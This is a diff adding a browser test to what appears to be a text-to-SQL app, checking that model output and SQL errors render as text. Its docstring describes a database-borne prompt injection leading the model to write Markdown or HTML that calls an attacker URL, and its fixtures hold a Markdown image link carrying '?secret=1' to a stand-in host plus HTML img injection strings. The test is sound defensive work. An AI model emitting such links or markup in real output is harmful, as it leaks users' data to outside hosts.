@@ -124,3 +124,21 @@ def test_compare_tab_side_by_side(page, fake_models, tmp_path):
     page.get_by_text("All models return the same rows.").wait_for()
     assert page.get_by_text("No evaluation results yet.").is_visible()
     save_screenshot(page, tmp_path, "compare")
+
+
+def test_model_output_and_errors_show_as_text_never_as_images_or_html(page, fake_models):
+    """A prompt injected through the database can make the model write Markdown or HTML that
+    would fetch an attacker's URL; the note and the status show it as text."""
+    fake_models.enqueue("Sure! ![leak](http://127.0.0.1:9/leak.png?secret=1) <img src=x id=evil>")
+    page.locator("#question textarea").fill("List the products")
+    page.locator("#generate").click()
+    page.locator("#note").get_by_text("did not write a SQL query").wait_for()
+    assert "![leak](http://127.0.0.1:9/leak.png?secret=1)" in page.locator("#note").inner_text()
+    replace_sql(page, 'SELECT p."![l](http://127.0.0.1:9/x.png)" FROM products p')
+    page.locator("#run").click()
+    page.locator("#status").get_by_text("no such column").wait_for()
+    assert page.locator("#note img, #status img, #evil").count() == 0
+    replace_sql(page, "SELECT '<img src=x id=evil2>' AS a, '![l](http://127.0.0.1:9/y.png)' AS b")
+    page.locator("#run").click()
+    page.locator("#result").get_by_role("gridcell", name="<img src=x id=evil2>").wait_for()  # values are text
+    assert page.locator("#result img, #evil2").count() == 0
